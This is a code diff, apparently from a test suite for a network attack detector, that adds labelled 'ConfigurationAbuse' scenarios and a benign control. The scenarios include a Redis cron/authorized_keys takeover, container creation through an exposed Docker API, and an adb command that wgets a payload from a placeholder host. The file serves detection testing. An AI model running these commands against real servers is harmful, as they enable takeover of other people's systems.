@@ -38,6 +38,14 @@ def _segment(name: str, label: str, command: str, attacker: str = "*") -> Scenar
     return Scenario(name, label, attacker, "", "attacker", command, "client", neighbours=True)
 
 
+def _service(name: str, label: str, command: str) -> Scenario:
+    """Open services of the server are told something."""
+    attacker, namespace = ("", "client") if label == NORMAL else (ATTACKER, "attacker")
+    helper = ("server", f"SERVICES serve {SERVER}")
+    return Scenario(name, label, attacker, SERVER, namespace, command, helpers=(helper,))
+
+
+_CONTAINERS = f"http://{SERVER}:2375/v1.24/containers"
 _ROUTER = "SPOOF router fe80::1"
 _FETCH = "curl -s --retry 9 --retry-connrefused --retry-delay 1 http://127.0.0.1:8000/[1-20]"
 
@@ -111,6 +119,30 @@ UNTRAINED: tuple[Scenario, ...] = (
     ),
     # Two routers, the second a standby.
     _segment("benign-routers", NORMAL, f"{_ROUTER} && SPOOF router fe80::2 --wait 4"),
+    _service(
+        "redis-takeover",
+        "ConfigurationAbuse",
+        f"redis-cli -h {SERVER} config set dir /var/spool/cron && "
+        f"redis-cli -h {SERVER} config set dbfilename authorized_keys",
+    ),
+    _service(
+        "docker-takeover",
+        "ConfigurationAbuse",
+        f"curl -s -d CONTAINER {_CONTAINERS}/create",
+    ),
+    _service(
+        "adb-takeover",
+        "ConfigurationAbuse",
+        f"SERVICES adb {SERVER} cd+/data/local/tmp;wget+http://192.0.2.66/x",
+    ),
+    # What their owners do.
+    _service(
+        "benign-services",
+        NORMAL,
+        f"redis-cli -h {SERVER} set visits 7 && redis-cli -h {SERVER} config get dir && "
+        f"redis-cli -h {SERVER} config set maxmemory 64mb && curl -s {_CONTAINERS}/json && "
+        f"curl -s -d {{}} {_CONTAINERS}/create && SERVICES adb {SERVER} ls",
+    ),
     # A monitor: the same ten hosts again and again, one of them dead.
     Scenario(
         "benign-monitor",
